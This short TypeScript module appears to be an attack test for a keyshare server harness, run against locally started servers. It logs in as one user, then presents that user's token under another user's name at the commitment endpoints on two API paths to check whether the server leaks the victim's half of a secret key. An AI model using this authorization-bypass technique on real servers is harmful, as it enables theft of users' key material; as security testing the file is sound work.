/** A user names another user beside the token of the own account. @module */
import { headersOf, KEY, login, PIN } from '../../faults/keyshare/app.ts'
import type { Attack } from '../attack.ts'
import { post, startKeyshare, userOf } from '../keyshares.ts'

export const attack: Attack = {
  name: 'token-of-another',
  gains: 'the half of the secret key of another user',
  cites: 'spec/keyshare-server#7.2',
  on: 'own servers',
  async run(own) {
    const servers = await startKeyshare(own)
    const [attacker, victim] = [await userOf(servers), await userOf(servers)]
    const { message: token } = await login(servers, attacker, PIN)
    const right = await post(servers, '/prove/getCommitments', [KEY], headersOf(attacker, token))
    if (right.status !== 200) throw new Error('expected a commitment for the own account')
    for (const path of ['', '/api/v2']) {
      const headers = headersOf(victim, token)
      const { status } = await post(
        servers,
        `${path}/prove/getCommitments`,
        path ? { keys: [KEY], hash: 'AQ==' } : [KEY],
        headers,
      )
      if (status === 200) return 'a commitment for another account'
    }
    return null
  },
}
